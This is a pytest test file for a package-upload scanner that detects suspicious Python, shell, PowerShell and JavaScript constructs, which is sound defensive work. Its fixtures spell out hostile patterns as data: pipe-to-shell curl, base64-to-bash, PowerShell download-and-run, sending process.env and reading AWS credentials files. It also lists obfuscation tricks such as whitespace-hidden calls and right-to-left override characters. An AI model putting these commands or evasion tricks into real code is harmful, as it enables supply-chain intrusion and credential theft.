"""Suspicious constructs are found in source, however they are written, and no others."""

import json
import math
import subprocess
import sys

import pytest

from warehouse.scanning import program
from warehouse.scanning.constructs import entropy, inspected
from warehouse.scanning.inspecting import LARGEST_SOURCE, Inspector
from warehouse.scanning.members import Member

DATA = "QWxsIHlvdXIga2V5cyBhcmUgYmVsb25nIHRvIHVzLCBzYWlkIHRoZSBzcGlkZXIgdG8gdGhlIGZseS4" * 4
PYTHON = [
    ("import os\nos.system('x')", 2, "processes", "os.system", True),
    ("from os import system as s\ndef f():\n s('x')", 3, "processes", "os.system", False),
    ("from os import *\nsystem('x')", 2, "processes", "os.system", True),
    ("__import__('os').system('x')", 1, "processes", "os.system", True),
    ("import importlib as i\ni.import_module('socket').socket()", 2, "network", "", True),
    ("import os\ngetattr(os, 'sys' + 'tem')('x')", 2, "processes", "os.system", True),
    ("getattr(__builtins__, 'ex' + 'ec')('x')", 1, "runs text", "exec", True),
    ("run = eval\nrun('x')", 2, "runs text", "eval", True),
    ("list(map(exec, texts))", 1, "runs text", "exec", True),
    ("import base64 as b\nb.b64decode('x')", 2, "decodes", "base64.b64decode", True),
    ("'x'.decode('rot13')", 1, "decodes", "decode('rot13')", True),
    ("import os\nos.environ['KEY']", 2, "reads", "os.environ", True),
    ("open('/home/a/.aws/credentials')", 1, "reads", ".aws/credentials", True),
    ("if __name__ == '__main__':\n import pty\n pty.spawn", 3, "processes", "", False),
    (f"x = '{DATA}'", 1, "obfuscated", "a string of 316 characters of data", True),
    (
        "x = '" + "0f" * 150 + "'",
        1,
        "obfuscated",
        "a string of 300 characters of data",
        True,
    ),
    (f"x = {[99] * 80}", 1, "obfuscated", "80 numbers that are bytes", True),
    ("x = chr(104) + chr(105)", 1, "obfuscated", "chr of a number", True),
    (
        "x = '" + r"\x68" * 30 + "'",
        1,
        "obfuscated",
        "text that is written as numbers",
        True,
    ),
    (f"x = 1{' ' * 200}; y()", 1, "obfuscated", "text that is pushed out of sight", True),
    ("x = '\u202e'", 1, "obfuscated", "characters that turn", True),
    ("\uff45xec('x')", 1, "runs text", "exec", True),
]
HARMLESS = [
    "import re\nre.compile('x')",
    "requests = {}\nrequests.get('x')",
    "import subprocess\ntry:\n pass\nexcept subprocess.TimeoutExpired:\n pass",
    "import socket\nx = socket.AF_INET",
    "import types\nisinstance(f, types.FunctionType)",
    "import requests",
    f"'''{'A sentence of many words, as in a docstring. ' * 20}'''",
    "def exec_all(self): self.compile(); self.eval()",
]


@pytest.mark.parametrize(("source", "line", "kind", "what", "runs"), PYTHON)
def test_a_construct_of_python_is_found(source, line, kind, what, runs):
    found = inspected("a.py", source.encode())["found"]
    assert any(
        (each[0], each[1], each[3]) == (line, kind, runs) and what in each[2]
        for each in found
    ), found


@pytest.mark.parametrize("source", HARMLESS)
def test_harmless_source_is_not_found(source):
    assert inspected("a.py", source.encode())["found"] == []


@pytest.mark.parametrize(
    ("name", "text", "kind"),
    [
        ("a.sh", "curl https://x.example | sh", "network"),
        ("a.sh", "echo x | base64 -d | bash", "decodes"),
        ("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('x')", "runs text"),
        ("a.js", "require('child_process').exec('x')", "processes"),
        ("a.js", "fetch('https://x.example', {body: process.env})", "reads"),
        ("a.bat", "powershell -enc SQBFAFgA", "decodes"),
        ("x.data/scripts/a", "#!/usr/bin/python\nimport os; os.system('x')", "processes"),
        ("a.py", "print 'x'\nos.system('x')", "processes"),
    ],
)
def test_a_construct_of_other_text_is_found(name, text, kind):
    assert kind in [each[1] for each in inspected(name, text.encode())["found"]]


def test_only_the_lines_of_a_pth_file_that_run_are_inspected():
    found = inspected("a.pth", b"exec(os)\n/opt/lib\nimport os; os.system('x')\n")
    assert [each[:3] for each in found["found"]] == [(3, "processes", "os.system")]


@pytest.mark.parametrize(
    "content",
    [
        b"(" * 99_999,
        b"-" * 99_999 + b"1",
        b"a" + b".b" * 99_999,
        b"x\0",
        b"\xff\xfe",
        b"9" * 9999,
    ],
)
def test_source_that_cannot_be_parsed_is_said_to_be_so(content):
    assert "no Python that can be parsed" in inspected("a.py", content)["problem"]


def test_entropy_is_that_of_shannon():
    assert entropy(b"") == 0
    assert entropy(b"aaaa") == 0
    assert math.isclose(entropy(bytes(range(256))), 8)


def test_the_program_says_what_it_finds_as_it_goes():
    about = [{"seconds": 600, "each": 600, "memory": 2**40}]
    lines = [*about, {"name": "a.py", "size": 7, "parse": True}]
    said = b"".join(json.dumps(each).encode() + b"\n" for each in lines) + b"eval(x)"
    ran = subprocess.run(
        [sys.executable, "-I", "-S", program.__file__],
        input=said,
        capture_output=True,
        check=True,
        timeout=60,
    )
    assert [each[2] for each in json.loads(ran.stdout)["found"]] == ["eval"]


SLOW = b"[x " + b"for x in y " * 90_000 + b"]"


def test_a_member_that_stops_the_parser_keeps_no_other_from_being_inspected():
    members = [
        b"eval(x)",
        SLOW,
        b"exec(x)",
        SLOW + b"\nimport os\nos.system('x')",
        b"x = 1",
    ]
    given = [Member(f"{at}.py", each) for at, each in enumerate(members)]
    found = Inspector(each=0.2).inspect(given)
    assert [[each.what for each in one.findings] for one in found] == [
        *(["eval"], [], ["exec"], ["os.system"], [])
    ]
    assert ["stops" in each.problem for each in found] == [False, True, False, True, False]


def test_inspecting_ends_when_its_time_is_up():
    found = Inspector(seconds=0.3, each=60).inspect([Member("a.py", SLOW)] * 3)
    assert found[2].problem == "It was not inspected: others took the time."


def test_a_member_that_is_too_long_is_inspected_without_parsing():
    content = b"eval(x)\n" + b"# " * LARGEST_SOURCE
    [found] = Inspector().inspect([Member("a.py", content)])
    assert found.problem == "Only its first 1048576 bytes were inspected, and not parsed."
    assert [each.what for each in found.findings] == ["eval"]
